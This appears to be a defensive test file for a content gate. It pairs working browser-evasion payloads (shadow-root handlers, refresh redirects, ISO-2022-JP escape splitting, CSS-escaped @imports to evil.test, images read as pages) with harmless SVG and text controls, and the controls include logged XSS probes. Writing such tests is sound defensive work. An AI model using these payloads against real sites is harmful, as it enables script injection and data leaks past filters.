// Red team round 10 for browsers (issue 41): pages, SVG documents and images Chromium reads by the HTML standard's own
// rules where a reader built from tags and attributes may not (declarative shadow roots, the refresh grammar's other
// separators, `data:` documents in plugin elements, ISO-2022-JP escapes a `<meta charset>` turns on, CSS escapes in
// an `@import`, a `<base>` that moves a relative stylesheet elsewhere), and images a sniffing host reads as a page
// whose metadata or pixels link a stylesheet from elsewhere. Controls are ordinary files: SVG exports of the tools
// people draw with (draw.io and Mermaid labels in `foreignObject`, Graphviz and Matplotlib with their DOCTYPE, Inkscape,
// icon sets), and text files that are not markdown (a patch, yaml and toml configs, a server log, a shell script)
// served as text/plain, which Chromium shows as text. The oracle is Chromium: an attack is live when a script or
// handler ran or the page asked for anything off its origin by itself; a control runs nothing and asks for nothing
// elsewhere; the consumer's verdict is its own test (the shell script's is a deny by the contract, below). Under
// CI=true a missing Chromium fails.
import { afterAll, describe, expect, test } from 'vitest';
import { makeBmp, makePng } from '../../fixtures/make-bytes.ts';
import { useChromiumOracles } from './chromium-oracles.ts';
import { profileGate } from '../consumers/profile-gate.ts';
import { judgeSendings, letThrough, refused, type Sending, sendingsOf } from './judge-variants.ts';

const { becomesLive, isLive } = useChromiumOracles();
const svgNs = 'http://www.w3.org/2000/svg';
const xlink = 'http://www.w3.org/1999/xlink';
const ran = "fetch('http://ran.test/')";
const b64 = (s: string): string => Buffer.from(s).toString('base64');

function pngWithText(text: string): Buffer {
  const png = makePng();
  const data = Buffer.from(`Comment\0${text}`, 'latin1');
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  return Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
}
function bmpWithPixels(markup: string): Buffer {
  const bmp = makeBmp({ width: 64, height: 4 });
  Buffer.from(markup, 'latin1').copy(bmp, 54 + 8);
  return bmp;
}

const pageSendings = sendingsOf('guide://site/page', ['.html', '.HTM', '.txt', ''], ['text/plain', undefined]);
const svgSendings = sendingsOf('guide://art/logo', ['.svg', ''], ['image/svg+xml', 'text/plain', undefined]);
const imageSendings = (type: string, ext: string): Sending[] =>
  sendingsOf('guide://media/photo', [ext, ext.toUpperCase(), ''], [type, undefined]);

// key, name, the type Chromium is served, body (text unless bytes), sendings
type Case = readonly [key: string, name: string, served: string, body: string | Buffer, sendings: readonly Sending[]];

const attacks: Case[] = [
  [
    'dsd-handler',
    'a handler in a declarative shadow root',
    'text/html',
    `<p>Card</p><div><template shadowrootmode="open"><img src=x onerror="${ran}"><slot></slot></template>text</div>`,
    pageSendings,
  ],
  [
    'dsd-import',
    'a css @import in a declarative shadow root',
    'text/html',
    '<div><template shadowrootmode="closed"><style>@import "http://evil.test/x.css";</style><slot></slot></template>x</div>',
    pageSendings,
  ],
  [
    'refresh-comma',
    'a refresh whose url follows a comma',
    'text/html',
    '<meta http-equiv="refresh" content="0,http://evil.test/x"><p>Moved</p>',
    pageSendings,
  ],
  [
    'refresh-bare-url',
    'a refresh whose url follows a space, no url=',
    'text/html',
    '<meta http-equiv="Refresh" content="0 http://evil.test/x"><p>Moved</p>',
    pageSendings,
  ],
  [
    'refresh-fraction',
    'a refresh with a fractional delay and a quoted url',
    'text/html',
    `<meta http-equiv="refresh" content=".5;URL = 'http://evil.test/x'"><p>Moved</p>`,
    pageSendings,
  ],
  [
    'object-data-html',
    'an object holding a data: html document',
    'text/html',
    `<p>x</p><object data="data:text/html;base64,${b64(`<script>${ran}</script>`)}"></object>`,
    pageSendings,
  ],
  [
    'embed-data-svg',
    'an embed holding a data: svg document',
    'text/html',
    `<p>x</p><embed type="image/svg+xml" src="data:image/svg+xml;base64,${b64(`<svg xmlns="${svgNs}" onload="${ran}"/>`)}">`,
    pageSendings,
  ],
  [
    'iso2022-handler',
    'a handler name split by an ISO-2022-JP escape',
    'text/html',
    `<meta charset="iso-2022-jp"><p>x</p><img src=x o\x1b(Bnerror="${ran}">`,
    pageSendings,
  ],
  [
    'iso2022-script',
    'a script tag split by ISO-2022-JP escapes',
    'text/html',
    `<meta charset="iso-2022-jp"><scr\x1b(Bipt>${ran}</scr\x1b(Bipt>`,
    pageSendings,
  ],
  [
    'iso2022-svg',
    'an svg onload split by an ISO-2022-JP escape',
    'image/svg+xml',
    `<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="${svgNs}" o\x1b(Bnload="${ran}"/>`,
    svgSendings,
  ],
  [
    'import-css-escape',
    'a page @import whose url is written with a css escape',
    'text/html',
    '<p>x</p><style>@import "\\68ttp://evil.test/x.css";</style>',
    pageSendings,
  ],
  [
    'svg-import-escaped-slashes',
    'an svg @import whose slashes are css escapes',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>@import "\\2f\\2f evil.test/x.css";</style><rect width="5" height="5"/></svg>`,
    svgSendings,
  ],
  [
    'link-backslashes',
    'a stylesheet link written with backslashes',
    'text/html',
    '<link rel=stylesheet href="\\\\evil.test\\x.css"><p>x</p>',
    pageSendings,
  ],
  [
    'base-then-link',
    'a base off the page, then a relative stylesheet',
    'text/html',
    '<base href="http://evil.test/"><link rel=stylesheet href="x.css"><p>x</p>',
    pageSendings,
  ],
  [
    'png-text-stylesheet',
    'a png whose text chunk links a stylesheet, read as a page',
    'text/html',
    pngWithText('<link rel=stylesheet href=http://evil.test/x.css>'),
    imageSendings('image/png', '.png'),
  ],
  [
    'bmp-pixels-stylesheet',
    'a bmp whose pixels link a stylesheet, read as a page',
    'text/html',
    bmpWithPixels('<link rel=stylesheet href=//evil.test/x.css>'),
    imageSendings('image/bmp', '.bmp'),
  ],
  [
    'png-text-import',
    'a png whose text chunk holds a style @import, read as a page',
    'text/html',
    pngWithText('<style>@import "http://evil.test/x.css";</style>'),
    imageSendings('image/png', '.png'),
  ],
];

const drawio = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="${svgNs}" xmlns:xlink="${xlink}" version="1.1" width="121px" height="61px" viewBox="-0.5 -0.5 121 61" content="&lt;mxfile host=&quot;app.diagrams.net&quot;&gt;&lt;diagram id=&quot;x&quot;&gt;ddHBEoIgEAbgp+Fu0jR5Nq1Lpw6dGdmEGXEdxNF6+nRAjbEuLPv9MLMLoFk13DRr5B0FlCSOxEDolcRxSpNxneDtIU1jD4VW3NPuB7l6g8fIa6cEtF7ehI2xFYpXW3nLVdkNX6QwjYDUNnuWV6eg+hzhBb95Kqw0c8KtfLBrcMcvWGsQPYwjJ4wsPT9QFtC7g7CRwW8tBdr/FzJfLHPrGs/1b/e6+/4eOE35OE/gA=&lt;/diagram&gt;&lt;/mxfile&gt;"><defs/><g><rect x="0" y="0" width="120" height="60" rx="9" ry="9" fill="#ffffff" stroke="#000000" pointer-events="all"/><g transform="translate(-0.5 -0.5)"><switch><foreignObject pointer-events="none" width="100%" height="100%" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility" style="overflow: visible; text-align: left;"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; align-items: unsafe center; justify-content: unsafe center; width: 118px; height: 1px; padding-top: 30px; margin-left: 1px;"><div data-drawio-colors="color: rgb(0, 0, 0); " style="box-sizing: border-box; font-size: 0px; text-align: center;"><div style="display: inline-block; font-size: 12px; font-family: Helvetica; color: rgb(0, 0, 0); line-height: 1.2; pointer-events: all; white-space: normal; overflow-wrap: normal;">Start<br/>here</div></div></div></foreignObject><text x="60" y="34" fill="rgb(0, 0, 0)" font-family="Helvetica" font-size="12px" text-anchor="middle">Start here</text></switch></g></g><switch><g requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"/><a transform="translate(0,-5)" xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems" target="_blank"><text text-anchor="middle" font-size="10px" x="50%" y="100%">Text is not SVG - cannot display</text></a></switch></svg>`;
const mermaid = `<svg aria-roledescription="flowchart-v2" role="graphics-document document" viewBox="-8 -8 120 70" style="max-width: 120px;" xmlns="${svgNs}" width="100%" id="mermaid-1701"><style>#mermaid-1701{font-family:"trebuchet ms",verdana,arial,sans-serif;font-size:16px;fill:#333;}@keyframes dash{to{stroke-dashoffset:0;}}#mermaid-1701 .node rect{fill:#ECECFF;stroke:#9370DB;stroke-width:1px;}#mermaid-1701 :root{--mermaid-font-family:"trebuchet ms",verdana,arial,sans-serif;}</style><g><marker orient="auto" markerHeight="8" markerWidth="8" markerUnits="userSpaceOnUse" refY="5" refX="5" viewBox="0 0 10 10" class="marker flowchart-v2" id="mermaid-1701_flowchart-v2-pointEnd"><path style="stroke-width: 1; stroke-dasharray: 1, 0;" class="arrowMarkerPath" d="M 0 0 L 10 5 L 0 10 z"/></marker><g class="root"><g class="nodes"><g transform="translate(52, 27)" id="flowchart-A-0" class="node default"><rect height="54" width="104" y="-27" x="-52" class="basic label-container"/><g transform="translate(-22, -12)" class="label"><rect/><foreignObject height="24" width="44"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5; max-width: 200px; text-align: center;"><span class="nodeLabel"><p>Start</p></span></div></foreignObject></g></g></g></g></g></svg>`;
const graphviz = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Generated by graphviz version 2.43.0 (0)\n -->\n<!-- Title: G Pages: 1 -->\n<svg width="62pt" height="116pt" viewBox="0.00 0.00 62.00 116.00" xmlns="${svgNs}" xmlns:xlink="${xlink}">\n<g id="graph0" class="graph" transform="scale(1 1) rotate(0) translate(4 112)">\n<title>G</title>\n<polygon fill="white" stroke="transparent" points="-4,4 -4,-112 58,-112 58,4 -4,4"/>\n<!-- a -->\n<g id="node1" class="node">\n<title>a</title>\n<g id="a_node1"><a xlink:href="https://example.com/a" xlink:title="a" target="_top">\n<ellipse fill="none" stroke="black" cx="27" cy="-90" rx="27" ry="18"/>\n<text text-anchor="middle" x="27" y="-86.3" font-family="Times,serif" font-size="14.00">a</text>\n</a>\n</g>\n</g>\n</g>\n</svg>\n`;
const matplotlib = `<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns:xlink="${xlink}" width="460.8pt" height="345.6pt" viewBox="0 0 460.8 345.6" xmlns="${svgNs}" version="1.1">\n <metadata>\n  <rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n   <cc:Work>\n    <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>\n    <dc:date>2026-12-06T10:00:00</dc:date>\n    <dc:format>image/svg+xml</dc:format>\n    <dc:creator>\n     <cc:Agent>\n      <dc:title>Matplotlib v3.8.0, https://matplotlib.org/</dc:title>\n     </cc:Agent>\n    </dc:creator>\n   </cc:Work>\n  </rdf:RDF>\n </metadata>\n <defs>\n  <style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style>\n </defs>\n <g id="figure_1">\n  <g id="patch_1">\n   <path d="M 0 345.6 L 460.8 345.6 L 460.8 0 L 0 0 z" style="fill: #ffffff"/>\n  </g>\n  <g id="line2d_1">\n   <defs>\n    <path id="m1" d="M 0 0 L 0 3.5" style="stroke: #000000; stroke-width: 0.8"/>\n   </defs>\n   <g>\n    <use xlink:href="#m1" x="57.6" y="307.584" style="stroke: #000000; stroke-width: 0.8"/>\n   </g>\n  </g>\n </g>\n <defs>\n  <clipPath id="p1">\n   <rect x="57.6" y="41.472" width="357.12" height="266.112"/>\n  </clipPath>\n </defs>\n</svg>\n`;
const inkscape = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape (http://www.inkscape.org/) -->\n<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg1" inkscape:version="1.3.2 (091e20e, 2023-11-25)" sodipodi:docname="drawing.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns="${svgNs}" xmlns:svg="${svgNs}">\n  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" bordercolor="#000000" borderopacity="0.25" inkscape:showpageshadow="2" inkscape:pageopacity="0.0" inkscape:pagecheckerboard="0" inkscape:deskcolor="#d1d1d1" inkscape:document-units="mm" />\n  <defs id="defs1" />\n  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">\n    <rect style="fill:#ff0000;stroke-width:0.264583" id="rect1" width="50" height="30" x="20" y="20" />\n    <text xml:space="preserve" style="font-size:10.5833px" x="25" y="40" id="text1"><tspan sodipodi:role="line" id="tspan1" x="25" y="40">Hi</tspan></text>\n  </g>\n</svg>\n`;
const iconSprite = `<svg xmlns="${svgNs}" xmlns:xlink="${xlink}" style="display:none"><symbol id="i-home" viewBox="0 0 16 16"><path d="M8 1l7 7h-2v7H3V8H1z"/></symbol><symbol id="i-x" viewBox="0 0 16 16"><use xlink:href="#i-home"/></symbol></svg>`;
const fontAwesome = `<svg xmlns="${svgNs}" viewBox="0 0 512 512"><!--! Font Awesome Free 6.5.1 by @fontawesome - https://fontawesome.com License - https://fontawesome.com/license/free (Icons: CC BY 4.0, Fonts: SIL OFL 1.1, Code: MIT License) Copyright 2023 Fonticons, Inc. --><path d="M256 512A256 256 0 1 0 256 0a256 256 0 1 0 0 512z"/></svg>`;
const svgControlSendings = sendingsOf('guide://art/figure', ['.svg', ''], ['image/svg+xml', undefined]);
const textSendings = (base: string, exts: string[]): Sending[] => sendingsOf(base, exts, ['text/plain', undefined]);

const controls: Case[] = [
  [
    'svg-drawio',
    'a draw.io export (labels in foreignObject, the diagram in an attribute)',
    'image/svg+xml',
    drawio,
    svgControlSendings,
  ],
  [
    'svg-mermaid',
    'a Mermaid flowchart (a style, labels in foreignObject)',
    'image/svg+xml',
    mermaid,
    svgControlSendings,
  ],
  ['svg-graphviz', 'a Graphviz graph with its DOCTYPE and a web link', 'image/svg+xml', graphviz, svgControlSendings],
  ['svg-matplotlib', 'a Matplotlib figure (rdf metadata, a style)', 'image/svg+xml', matplotlib, svgControlSendings],
  [
    'svg-inkscape',
    'an Inkscape drawing (sodipodi and inkscape namespaces)',
    'image/svg+xml',
    inkscape,
    svgControlSendings,
  ],
  ['svg-sprite', 'an icon sprite (symbols and use)', 'image/svg+xml', iconSprite, svgControlSendings],
  ['svg-fontawesome', 'a Font Awesome icon with its licence comment', 'image/svg+xml', fontAwesome, svgControlSendings],
  [
    'text-patch',
    'a patch adding a script tag to a page',
    'text/plain',
    'diff --git a/index.html b/index.html\nindex 3b18e51..a1c2d3e 100644\n--- a/index.html\n+++ b/index.html\n@@ -1,3 +1,4 @@\n <head>\n+<script src="app.js"></script>\n   <title>Docs</title>\n</head>\n',
    textSendings('guide://repo/add-script', ['.patch', '.diff']),
  ],
  [
    'text-yaml',
    'a site config holding its analytics snippet (yaml)',
    'text/plain',
    'site:\n  title: Docs\n  head: \'<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\'\n',
    textSendings('guide://site/config', ['.yaml', '.yml']),
  ],
  [
    'text-toml',
    'a Hugo config holding a custom head (toml)',
    'text/plain',
    "baseURL = 'https://example.org/'\n[params]\ncustomHead = '<script defer src=\"/js/stats.js\"></script>'\n",
    textSendings('guide://site/hugo', ['.toml']),
  ],
  [
    'text-log',
    'an access log of probes a web server refused',
    'text/plain',
    '203.0.113.9 - - [06/Dec/2026:10:00:01 +0000] "GET /search?q=<script>alert(1)</script> HTTP/1.1" 400 0\n203.0.113.9 - - [06/Dec/2026:10:00:02 +0000] "GET /?q=<img src=x onerror=alert(1)> HTTP/1.1" 400 0\n',
    textSendings('guide://var/access', ['.log']),
  ],
  [
    'text-shell',
    'a shell script naming its own interpreter that writes a page',
    'text/plain',
    '#!/bin/sh\nset -eu\ncat > out/index.html <<\'HTML\'\n<script src="app.js"></script>\nHTML\n',
    textSendings('guide://repo/build', ['.sh']),
  ],
  [
    'text-ini',
    'an ini config holding a footer script (ini, cfg, conf)',
    'text/plain',
    '[site]\nfooter = <script src="/stats.js"></script>\n',
    textSendings('guide://site/settings', ['.ini', '.cfg', '.conf']),
  ],
  [
    'text-rst',
    'a reStructuredText how-to with an html code block',
    'text/plain',
    'Embedding\n=========\n\n.. code-block:: html\n\n   <script src="widget.js"></script>\n',
    textSendings('guide://docs/embedding', ['.rst']),
  ],
  [
    'text-tex',
    'a LaTeX source showing an iframe in verbatim',
    'text/plain',
    '\\begin{verbatim}\n<iframe src="https://example.com"></iframe>\n\\end{verbatim}\n',
    textSendings('guide://paper/appendix', ['.tex']),
  ],
];

// text-shell: its contracted verdict is a deny. DESIGN §5 (policies/default.yaml's meaning) admits as inert text only
// text with "no shebang" and denies "shebang scripts" among what is executable: a `#!/bin/sh` script is one whatever
// it is named (`build.sh` included), run by the shell consumer, not shown as text. Chromium still loads it inert (the
// control above); the proxy, flow and parity suites pin the same `.sh` script as executable
const deniedByContract = new Set<string>(['text-shell']);

const bodyOf = (body: string | Buffer) => (typeof body === 'string' ? { text: body } : { blob: body });

let slowest = { key: '', ms: 0 };
async function judged(key: string, body: string | Buffer, sendings: readonly Sending[]) {
  const before = process.cpuUsage();
  const verdicts = await judgeSendings(bodyOf(body), sendings);
  const used = process.cpuUsage(before);
  const ms = (used.user + used.system) / 1000;
  if (ms > slowest.ms) slowest = { key, ms };
  return verdicts;
}
// every type an attack is sent as admitted: a sending is held only when the gate withholds it for what it does
const everyType = profileGate(undefined, ['text/html', 'application/octet-stream']);

describe('round 10: Chromium runs each attack or loads from elsewhere', () => {
  test.for(attacks.map(([key, name, served, body]) => ({ key, name, served, body })))(
    '$key: $name',
    { timeout: 120_000 },
    async ({ served, body }, ctx) => {
      expect(await becomesLive(ctx, served, body)).toBe(true);
    },
  );
});

describe('round 10: the shipped profile withholds each attack however it is sent', () => {
  for (const [key, name, , body, sendings] of attacks)
    test(`${key}: ${name}`, { timeout: 60_000 }, async () => {
      expect(letThrough(await judged(key, body, sendings))).toEqual([]);
      const asPage = sendings.filter(([uri]) => !uri.endsWith('.txt'));
      const all = await judgeSendings(bodyOf(body), asPage, everyType);
      expect(all.filter((v) => v.effect === 'allow').map((v) => v.sending)).toEqual([]);
    });
});

describe('round 10: Chromium loads each control inert', () => {
  test.for(controls.map(([key, name, served, body]) => ({ key, name, served, body })))(
    '$key: $name',
    { timeout: 120_000 },
    async ({ served, body }, ctx) => {
      expect(await isLive(ctx, served, body)).toBe(false);
    },
  );
});

describe('round 10: the shipped profile allows each control however it is sent', () => {
  for (const [key, name, , body, sendings] of controls)
    if (deniedByContract.has(key))
      test(`${key}: ${name} is denied as the shebang script it is (DESIGN §5)`, async () => {
        const verdicts = await judged(key, body, sendings);
        expect(verdicts.length).toBeGreaterThan(0);
        for (const verdict of verdicts) {
          expect(verdict.effect, verdict.sending).toBe('deny');
          expect(verdict.codes, verdict.sending).toContain('content.executable');
          expect(verdict.why, verdict.sending).toMatch(/shell script|shebang/);
        }
      });
    else
      test(`${key}: ${name}`, async () => {
        expect(refused(await judged(key, body, sendings))).toEqual([]);
      });
  // printed, never asserted (speed is the bench's): after the suite, not as a test that cannot fail
  afterAll(() => {
    console.log(`round10-browser: slowest judgement ${slowest.key} ${slowest.ms.toFixed(0)} ms cpu`);
  });
});
